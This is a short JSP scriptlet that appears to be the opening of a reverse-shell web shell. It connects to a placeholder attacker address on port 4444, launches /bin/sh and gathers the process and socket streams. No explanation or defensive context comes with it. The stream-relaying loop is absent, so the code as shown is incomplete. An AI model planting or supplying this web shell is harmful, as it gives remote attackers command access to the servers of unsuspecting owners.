<%
java.net.Socket s = new java.net.Socket("192.0.2.1", 4444);
Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
java.io.InputStream pi = p.getInputStream(); java.io.OutputStream so = s.getOutputStream();
java.io.InputStream si = s.getInputStream(); java.io.OutputStream po = p.getOutputStream();
%>
